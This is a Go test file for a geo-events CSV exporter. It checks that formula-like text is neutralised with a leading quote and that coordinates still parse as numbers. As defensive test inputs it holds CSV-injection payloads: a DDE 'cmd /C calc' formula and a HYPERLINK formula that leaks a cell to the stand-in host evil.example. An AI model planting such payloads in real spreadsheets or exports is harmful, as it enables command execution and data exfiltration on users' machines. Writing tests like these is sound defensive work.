package export

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"geoevents/internal/event"
	"geoevents/internal/store"
	"geoevents/internal/store/sqlite"
	"geoevents/internal/testenv"
)

// TestAppendFieldFormulaInjection checks that text starting with each
// character spreadsheets treat as a formula gets a leading single quote,
// that RFC 4180 quoting still applies to the result, and that other text
// is untouched.
func TestAppendFieldFormulaInjection(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"equals", "=1+1", ",'=1+1"},
		{"plus", "+44 20 7946 0958", ",'+44 20 7946 0958"},
		{"minus", "-2+3", ",'-2+3"},
		{"at", "@SUM(A1:A9)", ",'@SUM(A1:A9)"},
		{"tab", "\t=1+1", ",'\t=1+1"},
		{"carriage return", "\r=1+1", ",\"'\r=1+1\""},
		{"formula needing quotes", `=HYPERLINK("http://evil.example/?"&A1,"click")`, `,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`},
		{"numeric-looking text", "-179.5", ",'-179.5"},
		{"trigger not first", "a=b-c", ",a=b-c"},
		{"plain", "Aleppo", ",Aleppo"},
		{"empty", "", ","},
		{"comma", "Deir ez-Zor, Syria", `,"Deir ez-Zor, Syria"`},
		{"quote", `say "hi"`, `,"say ""hi"""`},
		{"newline", "two\nlines", ",\"two\nlines\""},
		{"leading space", " lead", `," lead"`},
		{"invalid utf-8", "bad\xffutf", ",bad\uFFFDutf"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := string(appendField(nil, tt.in)); got != tt.want {
				t.Errorf("appendField(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

// formulaEvent has negative coordinates and formula-like text in several
// text columns.
func formulaEvent() event.Event {
	return event.Event{
		ID: "ev-fiji", Lon: -179.5, Lat: -17.25, Score: 0.5, GeoPrecision: 1, Fatalities: 3,
		PlaceName: "=cmd|' /C calc'!A0", CountryCode: "FJ", Notes: "-5 reported",
		Sentence: "@SUM(1+1)*cmd|' /C calc'!A0", ArticleTitle: "+Fiji, Lau islands",
		ArticleURL: "https://example.org/fiji", Source: "Wire", Type: event.TypeMention,
		Published: time.Date(2024, 12, 1, 8, 0, 0, 0, time.UTC),
	}
}

// storeOf opens a temporary store holding evs.
func storeOf(t *testing.T, evs ...event.Event) *sqlite.Store {
	t.Helper()
	ctx := context.Background()
	st, err := sqlite.Open(ctx, filepath.Join(t.TempDir(), "events.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	seq := func(yield func(event.Event, error) bool) {
		for _, e := range evs {
			if !yield(e, nil) {
				return
			}
		}
	}
	if n, err := st.ImportEvents(ctx, seq); err != nil || n != len(evs) {
		t.Fatalf("import = %d, %v", n, err)
	}
	return st
}

// readCSV parses an export with encoding/csv and returns its rows keyed by
// column name.
func readCSV(t *testing.T, data []byte) []map[string]string {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatalf("encoding/csv cannot read the export: %v\n%s", err, data)
	}
	var rows []map[string]string
	for _, rec := range recs[1:] {
		row := map[string]string{}
		for i, h := range recs[0] {
			row[h] = rec[i]
		}
		rows = append(rows, row)
	}
	return rows
}

// TestWriteCSVNeutralisesFormulas exports an event with formula-like text
// and negative coordinates: text columns gain the quote, numbers do not.
func TestWriteCSVNeutralisesFormulas(t *testing.T) {
	st := storeOf(t, formulaEvent())
	var buf bytes.Buffer
	if _, err := Write(context.Background(), &buf, CSV, st, store.Filter{Mentions: true}); err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, buf.Bytes())
	if len(rows) != 1 {
		t.Fatalf("%d rows, want 1", len(rows))
	}
	want := map[string]string{
		"lon": "-179.5", "lat": "-17.25", "score": "0.5", "fatalities": "3", "geo_precision": "1",
		"id": "ev-fiji", "country_code": "FJ", "article_url": "https://example.org/fiji",
		"place_name":    "'=cmd|' /C calc'!A0",
		"notes":         "'-5 reported",
		"sentence":      "'@SUM(1+1)*cmd|' /C calc'!A0",
		"article_title": "'+Fiji, Lau islands",
	}
	for col, w := range want {
		if got := rows[0][col]; got != w {
			t.Errorf("column %s = %q, want %q", col, got, w)
		}
	}
}

// TestOgrinfoReadsNegativeCoordinates checks with GDAL that lon and lat of
// an export with formula-like text still read as numbers, and the point
// lands where it should.
func TestOgrinfoReadsNegativeCoordinates(t *testing.T) {
	ogrinfo := testenv.RequireTool(t, "ogrinfo")
	st := storeOf(t, formulaEvent())
	path := filepath.Join(t.TempDir(), "events.csv")
	var buf bytes.Buffer
	if _, err := Write(context.Background(), &buf, CSV, st, store.Filter{Mentions: true}); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, buf.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	res, err := exec.Command(ogrinfo, "-ro", "-al", "-oo", "X_POSSIBLE_NAMES=lon", "-oo", "Y_POSSIBLE_NAMES=lat",
		"-oo", "AUTODETECT_TYPE=YES", path).CombinedOutput()
	if err != nil {
		t.Fatalf("ogrinfo: %v\n%s", err, res)
	}
	out := string(res)
	for _, want := range []string{"lon: Real", "lat: Real", "POINT (-179.5 -17.25)", "place_name (String) = '=cmd|' /C calc'!A0"} {
		if !strings.Contains(out, want) {
			t.Errorf("ogrinfo output lacks %q:\n%s", want, out)
		}
	}
}

// TestCSVSources: the sources column holds an incident's source count,
// and is empty for a single report (GeoJSON's null).
func TestCSVSources(t *testing.T) {
	cols := csvColumns()
	at := slices.Index(cols, "sources")
	if at < 0 {
		t.Fatalf("no sources column in %v", cols)
	}
	for _, tc := range []struct {
		sources int
		want    string
	}{{0, ""}, {1, ""}, {3, "3"}} {
		e := event.Event{ID: "e", Type: event.TypeBattles, Sources: tc.sources}
		rec, err := csv.NewReader(bytes.NewReader(csvEncoder{}.record(nil, &e, 0))).Read()
		if err != nil || len(rec) != len(cols) || rec[at] != tc.want {
			t.Errorf("sources %d: %q (%d fields of %d), %v; want %q", tc.sources, rec, len(rec), len(cols), err, tc.want)
		}
	}
}
